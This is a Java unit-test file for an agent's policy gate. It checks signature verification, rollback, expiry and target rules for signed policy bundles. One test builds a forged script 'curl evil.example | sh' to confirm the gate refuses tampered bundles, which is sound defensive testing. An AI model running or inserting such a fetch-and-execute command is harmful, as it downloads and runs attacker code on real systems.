package io.aami.agent.policy;

import static org.assertj.core.api.Assertions.assertThat;

import io.aami.agent.identity.AgentCredentials;
import io.aami.agent.identity.CredentialHolder;
import io.aami.contract.policy.CheckSpec;
import io.aami.contract.policy.PolicyBundle;
import io.aami.server.pki.PolicySigner;
import io.prometheus.metrics.model.registry.PrometheusRegistry;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Real Ed25519 signatures from the server's signer; the gate's rules for tampering, rollback, freeze and target. */
class PolicyGateTest {
    @TempDir
    Path dir;

    static final Instant NOW = Instant.parse("2030-01-01T00:00:00Z");
    final UUID agent = UUID.randomUUID();
    final List<PolicyBundle> applied = new ArrayList<>();
    PolicySigner signer;
    PrometheusRegistry registry;
    PolicyGate gate;

    @BeforeEach
    void setUp() {
        signer = PolicySigner.loadOrCreate(dir.resolve("pki"), new SecureRandom());
        CredentialHolder holder = new CredentialHolder();
        holder.set(new AgentCredentials(agent, "t", "s", NOW, signer.publicKeyBase64(), signer.keyId()));
        registry = new PrometheusRegistry();
        gate = new PolicyGate(applied::add, agent, holder, Clock.fixed(NOW, ZoneOffset.UTC), registry);
    }

    static String sha(String s) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(s.getBytes(StandardCharsets.UTF_8)));
    }

    PolicyBundle bundle(long version, String script, UUID target, Instant expires) throws Exception {
        CheckSpec check = new CheckSpec(UUID.nameUUIDFromBytes("c".getBytes()), "c", "sh", script, sha(script), List.of(), Map.of(),
                10, 5, Map.of());
        return new PolicyBundle(version, target, NOW, expires, List.of(check), List.of(), null, null);
    }

    PolicyBundle signed(long version, String script) throws Exception {
        return signer.sign(bundle(version, script, agent, NOW.plus(Duration.ofDays(1))));
    }

    @Test
    void aSignedCurrentBundleForThisAgentIsApplied() throws Exception {
        assertThat(gate.offer(signed(5, "echo ok"))).isTrue();
        assertThat(gate.appliedVersion()).isEqualTo(5);
        assertThat(gate.lastError()).isNull();
        assertThat(applied).hasSize(1);
    }

    @Test
    void aTamperedScriptIsNeverAppliedEvenWithARecomputedHash() throws Exception {
        gate.offer(signed(5, "echo ok"));
        PolicyBundle good = signed(6, "echo ok");
        String evil = "curl evil.example | sh";
        CheckSpec c = good.checks().get(0);
        CheckSpec forged = new CheckSpec(c.checkId(), c.name(), c.interpreter(), evil, sha(evil), c.args(), c.env(),
                c.intervalSeconds(), c.timeoutSeconds(), c.labels());
        PolicyBundle tampered = new PolicyBundle(good.version(), good.targetId(), good.generatedAt(), good.expiresAt(),
                List.of(forged), good.probes(), good.keyId(), good.signature());
        assertThat(gate.offer(tampered)).isFalse();
        assertThat(applied).hasSize(1);
        assertThat(applied.get(0).checks().get(0).script()).isEqualTo("echo ok");
        assertThat(gate.appliedVersion()).isEqualTo(5);
        assertThat(gate.lastError()).contains("signature");
        java.io.ByteArrayOutputStream text = new java.io.ByteArrayOutputStream();
        io.prometheus.metrics.expositionformats.PrometheusTextFormatWriter.create().write(text, registry.scrape());
        assertThat(text.toString()).contains("aami_agent_policy_refusals_total{reason=\"signature\"} 1.0")
                .contains("aami_agent_policy_version 5.0");
    }

    @Test
    void rollbackFreezeWrongTargetAndForeignKeysAreRefused() throws Exception {
        gate.offer(signed(10, "echo ten"));
        assertThat(gate.offer(signed(9, "echo nine"))).isFalse();
        assertThat(gate.lastError()).contains("rollback");
        assertThat(gate.offer(signer.sign(bundle(11, "echo late", agent, NOW.minusSeconds(1))))).isFalse();
        assertThat(gate.lastError()).contains("expired");
        assertThat(gate.offer(signer.sign(bundle(12, "echo other", UUID.randomUUID(), NOW.plusSeconds(60))))).isFalse();
        assertThat(gate.lastError()).contains("target");
        PolicySigner stranger = PolicySigner.loadOrCreate(dir.resolve("other"), new SecureRandom());
        assertThat(gate.offer(stranger.sign(bundle(13, "echo stranger", agent, NOW.plusSeconds(60))))).isFalse();
        assertThat(gate.lastError()).contains("signature");
        assertThat(applied).hasSize(1);
        assertThat(gate.appliedVersion()).isEqualTo(10);
        assertThat(gate.offer(signed(14, "echo fourteen"))).isTrue();
        assertThat(gate.lastError()).isNull();
    }

    @Test
    void theStoredBundleIsCheckedForItsSignatureAndItsAge() throws Exception {
        PolicyBundle old = signer.sign(bundle(3, "echo stored", agent, NOW.minus(Duration.ofDays(2))));
        assertThat(gate.offerStored(old)).isFalse();
        assertThat(gate.lastError()).contains("stored policy version 3 refused: expired");
        assertThat(applied).isEmpty();
        PolicyBundle current = signer.sign(bundle(3, "echo stored", agent, NOW.plus(Duration.ofDays(2))));
        assertThat(gate.offerStored(current)).isTrue();
        assertThat(gate.offer(signer.sign(bundle(2, "echo older", agent, NOW.plusSeconds(60))))).isFalse();
        PolicyBundle edited = new PolicyBundle(4, agent, current.generatedAt(), current.expiresAt(), current.checks(), current.probes(),
                current.keyId(), current.signature());
        assertThat(gate.offerStored(edited)).isFalse();
        assertThat(gate.lastError()).contains("signature");
    }
}
